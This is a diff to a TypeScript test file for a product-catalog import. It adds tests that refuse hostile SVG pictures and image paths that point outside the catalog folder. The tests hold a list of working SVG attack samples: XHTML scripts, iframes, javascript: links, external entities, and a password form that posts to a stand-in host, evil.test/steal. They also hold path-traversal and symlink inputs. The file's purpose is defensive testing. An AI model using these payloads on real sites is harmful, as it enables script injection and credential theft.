@@ -4,7 +4,7 @@
  * and a CSP that keeps an SVG from running anything; the catalog import checks each
  * picture by its content and size, and applies nothing of a file with any invalid row.
  */
-import { readFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -96,7 +96,9 @@ describe('product pictures in the catalog', () => {
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toBe('image/svg+xml');
     expect(res.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
-    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'");
+    expect(res.headers.get('content-security-policy')).toBe(
+      "default-src 'none'; style-src 'unsafe-inline'; form-action 'none'; sandbox",
+    );
     expect(res.headers.get('x-content-type-options')).toBe('nosniff');
     expect(Buffer.from(await res.arrayBuffer())).toEqual(
       readFileSync(new URL('../../lib/local-runtime/seed-images/GLV-NIT-M-100.svg', import.meta.url)),
@@ -189,8 +191,8 @@ describe('catalog import with pictures', () => {
     for (const fragment of [
       '[1].image not-a.png is not a PNG, JPEG, WebP or SVG image',
       '[2].image huge.png is 601 KiB; at most 512 KiB',
-      '[3].image script.svg is an SVG with script',
-      '[4].image handler.svg is an SVG with script',
+      '[3].image script.svg is an SVG that does more than draw: it has a <script> element',
+      '[4].image handler.svg is an SVG that does more than draw: it has an event attribute (onload) on <svg>',
       '[5].image cannot read absent.png',
       '[6].category',
       '[7].image',
@@ -202,5 +204,115 @@ describe('catalog import with pictures', () => {
     const freshKey: ProductImageKey = productImageKey(Buffer.from(SVG.replace('width="4"', 'width="3"')), 'svg');
     expect(isProductImageKey(freshKey)).toBe(true);
     expect(await stack.deps.productImages.get(freshKey)).toBeUndefined();
+  });
+});
+
+const XHTML = 'xmlns:h="http://www.w3.org/1999/xhtml"';
+const svgWith = (inner: string, attributes = '') =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${XHTML} ${attributes}>${inner}</svg>`;
+
+/** What a red team imported and had served on the embed origin, and its near relatives. */
+const HOSTILE_SVGS: Readonly<Record<string, string>> = {
+  'an XHTML-namespaced script': svgWith('<h:script>alert(document.domain)</h:script>'),
+  'an XHTML iframe': svgWith('<h:iframe src="https://evil.test/"/>'),
+  'an XHTML embed': svgWith('<h:embed src="https://evil.test/x.swf"/>'),
+  'an XHTML object': svgWith('<h:object data="https://evil.test/x.html"/>'),
+  'a prefixed foreignObject holding a password form': svgWith(
+    '<s:foreignObject width="200" height="80"><h:form action="https://evil.test/steal"><h:input type="password" name="p"/><h:button>Sign in</h:button></h:form></s:foreignObject>',
+    'xmlns:s="http://www.w3.org/2000/svg"',
+  ),
+  'a meta refresh': svgWith('<h:meta http-equiv="refresh" content="0;url=https://evil.test/"/>'),
+  'a &#106;avascript: link': svgWith('<a href="&#106;avascript:alert(1)"><rect width="4" height="4"/></a>'),
+  'a &#106;avascript: use': svgWith('<use xlink:href="&#106;ava&#x09;script:alert(1)"/>'),
+  'a DOCTYPE naming an external file': `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "https://evil.test/svg.dtd">${svgWith('<rect width="4" height="4"/>')}`,
+  'an entity': `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${svgWith('<text>&x;</text>')}`,
+  'an event attribute in any case': svgWith('<rect width="4" height="4" oNcLiCk="alert(1)"/>'),
+  'a prefixed SVG script': svgWith('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
+  'an external use': svgWith('<use href="https://evil.test/sprite.svg#icon"/>'),
+  'an external fill': svgWith('<rect width="4" height="4" fill="url(https://evil.test/track)"/>'),
+  'an external image': svgWith('<image href="https://evil.test/x.png" width="4" height="4"/>'),
+  'a style sheet instruction': `<?xml-stylesheet href="https://evil.test/x.css"?>${svgWith('<rect width="4" height="4"/>')}`,
+  'a style element': svgWith('<style>@import url(https://evil.test/x.css);</style>'),
+  'an animation that sets a link': svgWith('<set attributeName="href" to="javascript:alert(1)"/>'),
+  'not well-formed XML': svgWith('<rect width="4" height="4">'),
+};
+
+describe('SVG pictures that do more than draw', () => {
+  it('are refused at import, each with its reason, and nothing of the file is applied', async () => {
+    const before = await stack.deps.catalog.listAll();
+    const rows = Object.entries(HOSTILE_SVGS).map(([label, svg], index) => {
+      file(`hostile-${index}.svg`, svg);
+      return aRow(`HOSTILE-${index}`, `hostile-${index}.svg`, { name: label });
+    });
+    const run = await ops(['catalog', 'import', '--file', file('hostile.json', JSON.stringify(rows))]);
+    expect(run.code).toBe(1);
+    expect(run.err[0]).toContain(`has ${rows.length} problems; nothing was imported`);
+    rows.forEach((_, index) =>
+      expect(run.err[0], Object.keys(HOSTILE_SVGS)[index]).toMatch(
+        new RegExp(`\\[${index}\\]\\.image hostile-${index}\\.svg is (an SVG that does more than draw|not a PNG)`),
+      ),
+    );
+    expect(await stack.deps.catalog.listAll()).toEqual(before);
+  });
+
+  it('are not served when they reach the bucket another way, and every picture is served sandboxed', async () => {
+    for (const [label, svg] of Object.entries(HOSTILE_SVGS)) {
+      const key = productImageKey(Buffer.from(svg), 'svg');
+      await stack.deps.productImages.put(key, Buffer.from(svg));
+      const res = await fetch(`${stack.url}/embedded/assets/products/${key}`);
+      expect(res.status, label).toBe(404);
+    }
+    const key = productImageKey(Buffer.from(SVG), 'svg');
+    await stack.deps.productImages.put(key, Buffer.from(SVG));
+    const served = await fetch(`${stack.url}/embedded/assets/products/${key}`);
+    expect(served.status).toBe(200);
+    expect(served.headers.get('content-security-policy')?.split('; ')).toEqual(
+      expect.arrayContaining(["default-src 'none'", "form-action 'none'", 'sandbox']),
+    );
+  });
+
+  it('still takes a drawing with gradients, local references, text and comments', async () => {
+    const drawing = `<?xml version="1.0" encoding="UTF-8"?>\n<!-- a tray -->\n${svgWith(
+      '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs><rect width="4" height="4" fill="url(#g)" style="stroke:#000"/><use xlink:href="#g"/><text x="1" y="2" font-size="2">Tray &amp; lid</text>',
+    )}`;
+    const run = await ops([
+      'catalog',
+      'import',
+      '--file',
+      file('drawing.json', JSON.stringify([aRow('DRAWING-1', file('drawing.svg', drawing).replace(`${dir}/`, ''))])),
+    ]);
+    expect(run.err).toEqual([]);
+  });
+});
+
+describe("the import reads pictures only inside the catalog file's folder", () => {
+  it('refuses an absolute path, a path that climbs out, and a link that points out; a subfolder is fine', async () => {
+    const inner = join(dir, 'catalog');
+    mkdirSync(join(inner, 'pictures'), { recursive: true });
+    writeFileSync(join(inner, 'pictures', 'ok.png'), PNG);
+    const secret = file('secret.png', PNG);
+    symlinkSync(secret, join(inner, 'linked.png'));
+    const catalog = join(inner, 'catalog.json');
+    writeFileSync(
+      catalog,
+      JSON.stringify([
+        aRow('IN-1', 'pictures/ok.png'),
+        aRow('OUT-1', secret),
+        aRow('OUT-2', '../secret.png'),
+        aRow('OUT-3', 'pictures/../../secret.png'),
+        aRow('OUT-4', 'linked.png'),
+      ]),
+    );
+    const run = await ops(['catalog', 'import', '--file', catalog]);
+    expect(run.code).toBe(1);
+    expect(run.err[0]).toContain('has 4 problems');
+    for (const [row, path] of [
+      [1, secret],
+      [2, '../secret.png'],
+      [3, 'pictures/../../secret.png'],
+      [4, 'linked.png'],
+    ])
+      expect(run.err[0]).toContain(`[${row}].image cannot read ${path}: it is outside the catalog file's folder`);
+    expect(run.err[0]).not.toContain('[0].image');
   });
 });
